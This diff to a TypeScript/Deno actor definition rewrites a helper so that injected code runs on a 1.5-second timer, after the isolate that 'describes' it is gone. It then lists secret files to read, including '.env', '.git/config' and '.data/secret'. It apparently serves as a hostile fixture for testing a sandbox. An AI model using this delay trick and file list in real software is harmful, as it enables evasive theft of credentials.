@@ -30,11 +30,8 @@ export default defineActor({
 `;
 }
 
-/** Once it runs, that is once it may reach its servers, and not while it is described. */
-const later = (deed: string) => `
-const { state } = await Deno.permissions.query({ name: "net", host: "127.0.0.1" });
-if (Deno.env.has("NO_COLOR")) setTimeout(() => { ${deed} }, 1_500);
-void state;`;
+/** Once it runs: the isolate that only describes it is gone by then. */
+const later = (deed: string) => `setTimeout(() => { ${deed} }, 1_500);`;
 
 const reading = `
 const readable = ["../../.env", "../../.git/config", "../../.data/secret", "../quotes/mod.ts"]
